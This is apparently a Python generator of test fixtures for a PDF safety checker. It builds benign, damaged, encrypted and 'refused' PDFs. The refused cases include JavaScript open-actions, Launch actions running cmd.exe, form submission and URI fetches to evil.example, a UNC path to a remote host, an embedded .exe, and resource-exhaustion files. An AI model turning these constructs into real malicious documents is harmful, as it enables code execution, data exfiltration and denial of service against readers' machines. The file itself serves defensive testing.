"""PDFs, as simple as their readers allow: plain ones, and the same with all that may be packed in an object stream."""

import struct
import subprocess
import zlib

HEADER = b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n"
CONTENT = b"BT /F1 12 Tf (TypeScript/JavaScript) Tj /JavaScript gs ET"


def stream(content, entries=b"", filters=b"", pack=lambda content: content):
    packed = pack(content)
    return b"<< %s %s /Length %d >>\nstream\n%s\nendstream" % (entries, filters, len(packed), packed)


def flate(content, entries=b""):
    return stream(content, entries, b"/Filter /FlateDecode", zlib.compress)


def objects_of(catalog=b"", page=b"", objects=(), pages=b"/Kids [3 0 R] /Count 1"):
    """The catalogue, its one page with what it draws, and the objects from 5 on."""
    return [
        b"<< /Type /Catalog /Pages 2 0 R %s >>" % catalog,
        b"<< /Type /Pages %s >>" % pages,
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] /Contents 4 0 R %s >>" % page,
        stream(CONTENT),
        *objects,
    ]


def write_objects(numbered, body):
    places = {}
    for number, content in numbered:
        places[number] = len(body)
        body += b"%d 0 obj\n%s\nendobj\n" % (number, content)
    return body, places


def plain(objects, trailer=b"", root=b"/Root 1 0 R"):
    """With a table of cross-references."""
    body, places = write_objects(enumerate(objects, 1), HEADER)
    table = b"".join(b"%010d 00000 n \n" % places[number] for number in sorted(places))
    size = len(objects) + 1
    end = b"trailer\n<< /Size %d %s %s >>\nstartxref\n%d\n%%%%EOF\n" % (size, root, trailer, len(body))
    return body + b"xref\n0 %d\n0000000000 65535 f \n%s" % (size, table) + end


def packed(objects, trailer=b"", filters=b"/Filter %d 0 R", pack=zlib.compress, extra=b"/FlateDecode"):
    """With an object stream, whose filter is an object of its own, and a stream of cross-references."""
    inner = [(number, content) for number, content in enumerate(objects, 1) if b"stream\n" not in content]
    outer = [(number, content) for number, content in enumerate(objects, 1) if b"stream\n" in content]
    pairs, content = b"", b""
    for number, text in inner:
        pairs += b"%d %d " % (number, len(content))
        content += text + b"\n"
    filter_number, stream_number, table_number = (len(objects) + n for n in (1, 2, 3))
    outer.append((filter_number, extra))
    entries = b"/Type /ObjStm /N %d /First %d" % (len(inner), len(pairs))
    names = filters % filter_number if b"%d" in filters else filters
    outer.append((stream_number, stream(pairs + content, entries, names, pack)))
    body, places = write_objects(outer, HEADER)
    index = {number: struct.pack(">BIH", 2, stream_number, at) for at, (number, _) in enumerate(inner)}
    index |= {number: struct.pack(">BIH", 1, place, 0) for number, place in places.items()}
    index |= {0: struct.pack(">BIH", 0, 0, 65535), table_number: struct.pack(">BIH", 1, len(body), 0)}
    table = b"".join(index[number] for number in sorted(index))
    entries = b"/Type /XRef /Size %d /W [1 4 2] /Root 1 0 R %s" % (table_number + 1, trailer)
    return body + b"%d 0 obj\n%s\nendobj\nstartxref\n%d\n%%%%EOF\n" % (table_number, flate(table, entries), len(body))


def updated(whole, objects, previous=1):
    """A later version behind it, with these objects {number: content} in place of those before."""
    body, places = write_objects(objects.items(), whole)
    table = b"".join(b"%d 1\n%010d 00000 n \n" % (number, place) for number, place in places.items())
    at = whole.rindex(b"startxref\n") + 10
    before = int(whole[at : whole.index(b"\n", at)])
    size = max(objects) + previous
    end = b"trailer\n<< /Size %d /Root 1 0 R /Prev %d >>\nstartxref\n%d\n%%%%EOF\n" % (size, before, len(body))
    return body + b"xref\n" + table + end


SCRIPT = b"<< /S /JavaScript /JS (app.alert\\(1\\)) >>"
ATTACHMENT = [b"<< /Type /Filespec /F (a.exe) /EF << /F 6 0 R >> >>", stream(b"MZ", b"/Type /EmbeddedFile")]


def annotated(annotation, *objects):
    """Objects with an annotation in the page, which is object 5."""
    return objects_of(page=b"/Annots [5 0 R]", objects=[b"<< /Type /Annot /Rect [0 0 9 9] %s >>" % annotation, *objects])


def form(*packets, entries=b""):
    """An interactive form in XML, in one stream or in packets."""
    streams = [stream(packet) for packet in packets]
    if len(packets) == 1:
        return objects_of(b"/AcroForm << /Fields [] /XFA 5 0 R >>", objects=streams)
    parts = b" ".join(b"(part%d) %d 0 R" % (number, number) for number in range(5, 5 + len(streams)))
    return objects_of(b"/AcroForm << /Fields [] /XFA [%s] >>" % parts, objects=streams)


XDP = b'<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/">'
TEMPLATE = b'<template xmlns="http://www.xfa.org/schema/xfa-template/3.0/"><subform>%s</subform></template>'
CONFIG = b'<config xmlns="http://www.xfa.org/schema/xci/3.0/"><script><runScripts>none</runScripts></script></config>'
EVENT = b"<event activity='initialize'><script contentType='application/x-javascript'>xfa.host.messageBox(1)</script></event>"

HARMLESS = {
    "blank": objects_of(),
    "destination": objects_of(b"/OpenAction [3 0 R /XYZ null null 0]"),
    "goto": objects_of(b"/OpenAction << /S /GoTo /D [3 0 R /Fit] >>"),
    "print_later": annotated(b"/Subtype /Link /A << /S /Named /N /NextPage >>"),
    "link": annotated(b"/Subtype /Link /A << /S /URI /URI (https://zh.wikipedia.org/wiki/JavaScript) >>"),
    "link_to_file": annotated(b"/Subtype /Link /A << /S /GoToR /F (other.pdf) /D [0 /Fit] >>"),
    "link_by_button": annotated(b"/Subtype /Widget /FT /Btn /AA << /U << /S /URI /URI (https://kexie.example/) >> >>"),
    "empty_attachments": objects_of(b"/Names << /EmbeddedFiles << /Names [] >> /JavaScript << >> >>"),
    "empty_branches": objects_of(b"/Names << /EmbeddedFiles << /Kids [5 0 R] >> >>", objects=[b"<< /Kids [<< /Names [] >>] >>"]),
    "empty_actions": objects_of(b"/AA << >>", b"/AA << >>"),
    "names": objects_of(b"/JavaScript /Launch /Names << /Dests << /Names [(JavaScript) [3 0 R /Fit]] >> >>"),
    "fonts": objects_of(page=b"/Resources << /Font << /JavaScript << /Type /Font /Subtype /Type1 /BaseFont /Launch >> >> >>"),
    "layers": objects_of(b"/OCProperties << /OCGs [<< /Type /OCG /Name (EmbeddedFiles) >>] /D << >> >>"),
    "structure": objects_of(b"/StructTreeRoot << /K [<< /S /Sound /K << /S /JavaScript >> >>] >>"),
    "metadata": objects_of(b"/Metadata 5 0 R", objects=[stream(b"<x>/S /JavaScript /JS</x>", b"/Type /Metadata /Subtype /XML")]),
    "outlines": objects_of(
        b"/Outlines << /First 5 0 R /Last 6 0 R >>",
        objects=[b"<< /Title (JavaScript) /Next 6 0 R /A << /S /GoTo /D [3 0 R /Fit] >> >>", b"<< /Title (b) /Prev 5 0 R /Parent 1 0 R >>"],
    ),
    "missing": objects_of(b"/Metadata 99 0 R", b"/Annots [98 0 R null]"),
    "null": objects_of(page=b"/Annots [5 0 R]", objects=[b"null"]),
    "circle": objects_of(b"/X 5 0 R", objects=[b"[6 0 R]", b"<< /A 5 0 R /Next 6 0 R /AA 6 0 R >>"]),
    "nested": objects_of(b"/X " + b"[" * 90 + b"]" * 90),
    "static_form": form(XDP + TEMPLATE % b"<draw/>" + CONFIG + b"</xdp:xdp>"),
    "form_in_parts": form(XDP, TEMPLATE % b"<draw/>", b"</xdp:xdp>"),
    "signature": annotated(
        b"/Subtype /Widget /FT /Sig /T (s) /V << /Type /Sig /Filter /Adobe.PPKLite /SubFilter /adbe.pkcs7.detached /Contents <00> >>"
    ),
    "buttons": annotated(b"/Subtype /Widget /FT /Btn /A << /S /ResetForm /Next << /S /Hide /T (x) >> >>"),
}

ACTIVE = {
    "open_script": objects_of(b"/OpenAction 5 0 R", objects=[SCRIPT]),
    "direct_script": objects_of(b"/OpenAction " + SCRIPT),
    "escaped": objects_of(b"/Open#41ction << /#53 /J#61vaScr#69pt /J#53 (x) >>"),
    "named_by_reference": objects_of(b"/OpenAction << /S 5 0 R /JS 6 0 R >>", objects=[b"/JavaScript", b"(x)"]),
    "script_in_stream": objects_of(b"/OpenAction << /S /JavaScript /JS 5 0 R >>", objects=[stream(b"app.alert(1)")]),
    "script_tree": objects_of(b"/Names << /JavaScript << /Names [(a) 5 0 R] >> >>", objects=[SCRIPT]),
    "script_branches": objects_of(
        b"/Names << /JavaScript 5 0 R >>", objects=[b"<< /Kids [6 0 R] >>", b"<< /Limits [(a) (a)] /Names [(a) 7 0 R] >>", SCRIPT]
    ),
    "before_closing": objects_of(b"/AA << /WC 5 0 R >>", objects=[SCRIPT]),
    "page_opened": objects_of(page=b"/AA << /O 5 0 R >>", objects=[SCRIPT]),
    "clicked": annotated(b"/Subtype /Link /A 6 0 R", SCRIPT),
    "touched": annotated(b"/Subtype /Link /AA << /E 6 0 R >>", SCRIPT),
    "previous_action": annotated(b"/Subtype /Link /PA 6 0 R", SCRIPT),
    "field": objects_of(b"/AcroForm << /Fields [5 0 R] >>", objects=[b"<< /T (a) /Kids [6 0 R] >>", b"<< /FT /Tx /AA << /K 7 0 R >> >>", SCRIPT]),
    "outline": objects_of(b"/Outlines << /First 5 0 R >>", objects=[b"<< /Title (a) /A 6 0 R >>", SCRIPT]),
    "chained": objects_of(b"/OpenAction << /S /GoTo /D [3 0 R /Fit] /Next [<< /S /GoTo /Next 5 0 R >>] >>", objects=[SCRIPT]),
    "structure_too": objects_of(b"/StructTreeRoot << /K 5 0 R >> /OpenAction 5 0 R", objects=[SCRIPT]),
    "rendition": annotated(b"/Subtype /Screen /A << /S /Rendition /OP 0 /R << /S /MR >> >>"),
    "rendition_script": annotated(b"/Subtype /Screen /A << /S /Rendition /JS (app.alert\\(1\\)) >>"),
    "navigation": objects_of(page=b"/PresSteps << /NA 5 0 R >>", objects=[SCRIPT]),
    "launch": objects_of(b"/OpenAction << /S /Launch /F (cmd.exe) >>"),
    "launch_clicked": annotated(b"/Subtype /Link /A << /S /Launch /Win << /F (cmd.exe) >> >>"),
    "submit": annotated(b"/Subtype /Widget /FT /Btn /A << /S /SubmitForm /F (https://evil.example/) >>"),
    "import": annotated(b"/Subtype /Widget /FT /Btn /A << /S /ImportData /F (x.fdf) >>"),
    "fetched": objects_of(b"/OpenAction << /S /URI /URI (https://evil.example/) >>"),
    "fetched_by_page": objects_of(page=b"/AA << /O << /S /URI /URI (https://evil.example/) >> >>"),
    "remote": objects_of(b"/OpenAction << /S /GoToR /F (\\\\\\\\evil.example\\\\x.pdf) /D [0 /Fit] >>"),
    "remote_chained": objects_of(b"/OpenAction << /S /GoTo /D [3 0 R /Fit] /Next << /S /GoToE /T << >> >> >>"),
    "script_address": annotated(b"/Subtype /Link /A << /S /URI /URI (JavaScript:alert\\(1\\)) >>"),
    "script_address_spaced": annotated(b"/Subtype /Link /A << /S /URI /URI <FEFF0020006A006100760061007300630072006900700074003A0031> >>"),
    "script_by_button": annotated(b"/Subtype /Widget /FT /Btn /AA << /D 6 0 R >>", SCRIPT),
    "fetched_by_touch": annotated(b"/Subtype /Link /AA << /E << /S /URI /URI (https://evil.example/) >> >>"),
    "rich_media": annotated(b"/Subtype /RichMedia /RichMediaContent << >>"),
    "three_dimensions": annotated(b"/Subtype /3D /3DD 6 0 R", stream(b"", b"/Type /3D /Subtype /U3D")),
    "movie": annotated(b"/Subtype /Movie /Movie << /F (a.avi) >>"),
    "movie_action": objects_of(b"/OpenAction << /S /Movie /T (a) >>"),
    "sound": annotated(b"/Subtype /Sound /Sound 6 0 R", stream(b"", b"/R 8000")),
    "sound_action": objects_of(page=b"/AA << /O << /S /Sound /Sound 5 0 R >> >>", objects=[stream(b"", b"/R 8000")]),
    "form_script": form(XDP + TEMPLATE % EVENT + b"</xdp:xdp>"),
    "form_script_in_parts": form(XDP, TEMPLATE % EVENT, b"</xdp:xdp>"),
    "form_submits": form(XDP + TEMPLATE % b"<event activity='click'><submit target='https://evil.example/'/></event>" + b"</xdp:xdp>"),
}

EMBEDDED = {
    "attachment": objects_of(b"/Names << /EmbeddedFiles << /Names [(a) 5 0 R] >> >>", objects=ATTACHMENT),
    "attachment_branches": objects_of(b"/Names << /EmbeddedFiles << /Kids [<< /Names [(a) 5 0 R] >>] >> >>", objects=ATTACHMENT),
    "attachment_of_nothing": objects_of(b"/Names << /EmbeddedFiles << /Names [(a) null] >> >>"),
    "pinned": annotated(b"/Subtype /FileAttachment /FS 6 0 R", b"<< /Type /Filespec /F (a.exe) /EF << /F 7 0 R >> >>", stream(b"MZ")),
    "associated": objects_of(b"/AF [5 0 R]", objects=ATTACHMENT),
    "associated_with_page": objects_of(page=b"/AF [5 0 R]", objects=ATTACHMENT),
    "portfolio": objects_of(b"/Collection << /View /D >> /Names << /EmbeddedFiles << /Names [(a) 5 0 R] >> >>", objects=ATTACHMENT),
}

ENCRYPT = ("/usr/bin/qpdf", "--allow-weak-crypto")


def locked(folder, source, name, *options, password="secret"):
    """By qpdf, as offices' tools do it."""
    target = folder / name
    subprocess.run([*ENCRYPT, source, "--encrypt", password, "owner", *options, target], check=True)
    content = target.read_bytes()
    target.unlink()
    return content


def files():
    blank = plain(HARMLESS["blank"])
    script = plain(ACTIVE["open_script"])
    made = {"plain.pdf": plain(HARMLESS["destination"]), "packed.pdf": packed(HARMLESS["destination"])}
    for code, cases in {"taken": HARMLESS, "refused/active_content": ACTIVE, "refused/embedded_file": EMBEDDED}.items():
        for name, objects in cases.items():
            made[f"{code}/{name}.pdf"] = plain(objects)
            made[f"{code}/{name}_packed.pdf"] = packed(objects)
    wrong_place = blank[: blank.rindex(b"startxref")] + b"startxref\n7\n%%EOF\n"
    taken = {
        "titled": plain(objects_of(), b"/Info << /Title (SM4/Encrypt /JavaScript) >>"),
        "late": b"From: somebody\r\n\r\n".ljust(1000) + blank,
        "padded": blank + b"\0" * 5000,
        "lines_after": blank + b"\r\n" * 2000,
        "page_after": blank + b"<html><body>object</body></html>" * 90,
        "recovered": wrong_place,
        "script_removed": updated(script, {1: HARMLESS["blank"][0]}, 6),
        "filtered_twice": packed(
            objects_of(), filters=b"/Filter [/ASCIIHexDecode /FlateDecode]", pack=lambda content: zlib.compress(content).hex().encode() + b">"
        ),
    }
    active = {
        "late": b"\n" * 1000 + script,
        "recovered": script[: script.rindex(b"startxref")] + b"startxref\n7\n%%EOF\n",
        "script_added": updated(blank, {1: ACTIVE["direct_script"][0]}, 4),
        "filtered_twice": packed(
            ACTIVE["open_script"],
            filters=b"/Filter [/ASCIIHexDecode /FlateDecode]",
            pack=lambda content: zlib.compress(content).hex().encode() + b">",
        ),
        "stored": packed(ACTIVE["open_script"], pack=lambda content: zlib.compress(content, 0)),
    }
    damaged = {
        "hello": b"%PDF-1.4 hello %%EOF",
        "tiny": b"%PDF-",
        "no_end": blank[: blank.rindex(b"%%EOF")],
        "half_an_update": updated(blank, {1: HARMLESS["blank"][0]}, 4)[: len(blank) + 40],
        "no_root": plain(objects_of(), root=b""),
        "root_of_nothing": plain(objects_of(), root=b"/Root 77 0 R"),
        "no_pages": plain([b"<< /Type /Catalog >>", b"null", b"null", b"null"]),
        "empty_pages": plain(objects_of(pages=b"/Kids [] /Count 0")),
        "not_packed": packed(ACTIVE["open_script"], pack=lambda content: b"not zlib at all"),
        "packed_by_nobody": packed(ACTIVE["open_script"], extra=b"/BrandNewDecode"),
        "broken_form": plain(form(b"<template")),
    }
    strange = b"/Encrypt << /Filter /Adobe.PubSec /V 4 /SubFilter /adbe.pkcs7.s5 >> /ID [<00> <00>]"
    encrypted = {
        "for_certificates": plain(objects_of(), strange),
        "sm4": plain(objects_of(), strange.replace(b"Adobe.PubSec", b"Standard").replace(b"/V 4", b"/V 9")),
    }
    for place, cases in {
        "taken": taken,
        "refused/active_content": active,
        "refused/damaged_file": damaged,
        "refused/encrypted_file": encrypted,
    }.items():
        made |= {f"{place}/{name}.pdf": content for name, content in cases.items()}
    return made


def by_qpdf(folder):
    """What is made of a whole document of an office's: locked by a password, or by none, cut, and with its first page first."""
    source = folder / "form.pdf"
    script = folder / "made.pdf"
    script.write_bytes(plain(ACTIVE["open_script"]))
    ways = {
        "rc4_40": ("40", "--"),
        "rc4_128": ("128", "--use-aes=n", "--"),
        "aes_128": ("128", "--use-aes=y", "--"),
        "aes_256": ("256", "--"),
        "aes_256_packed": ("256", "--", "--object-streams=generate"),
        "rc4_128_packed": ("128", "--use-aes=n", "--", "--object-streams=generate"),
    }
    made = {}
    for name, options in ways.items():
        made[f"refused/encrypted_file/{name}.pdf"] = locked(folder, source, name, *options)
        made[f"taken/owner_{name}.pdf"] = locked(folder, source, name, *options, password="")
        made[f"refused/active_content/owner_{name}.pdf"] = locked(folder, script, name, *options, password="")
    script.unlink()
    linear = folder / "linear.pdf"
    subprocess.run(["/usr/bin/qpdf", "--linearize", source, linear], check=True)
    whole = linear.read_bytes()
    linear.unlink()
    made["taken/linear.pdf"] = whole
    made["refused/damaged_file/half_linear.pdf"] = whole[: len(whole) // 2]
    made["refused/damaged_file/most_linear.pdf"] = whole[: len(whole) * 9 // 10]
    half = source.read_bytes()
    made["refused/damaged_file/half.pdf"] = half[: len(half) // 2]
    made["refused/damaged_file/most.pdf"] = half[: len(half) * 9 // 10]
    return made


def exhausting():
    """What no more than a process of its own is lost to."""
    spaces = objects_of(objects=[b"<< >>" + b" " * 600_000_000])
    cases = {
        "spaces": packed(spaces),
        "twice": packed(spaces, filters=b"/Filter [/FlateDecode /FlateDecode]", pack=lambda content: zlib.compress(zlib.compress(content))),
        "arrays": plain(objects_of(b"/X [" + b"[]" * 3_000_000 + b"]")),
    }
    return {f"exhausting/{name}.pdf": content for name, content in cases.items()}
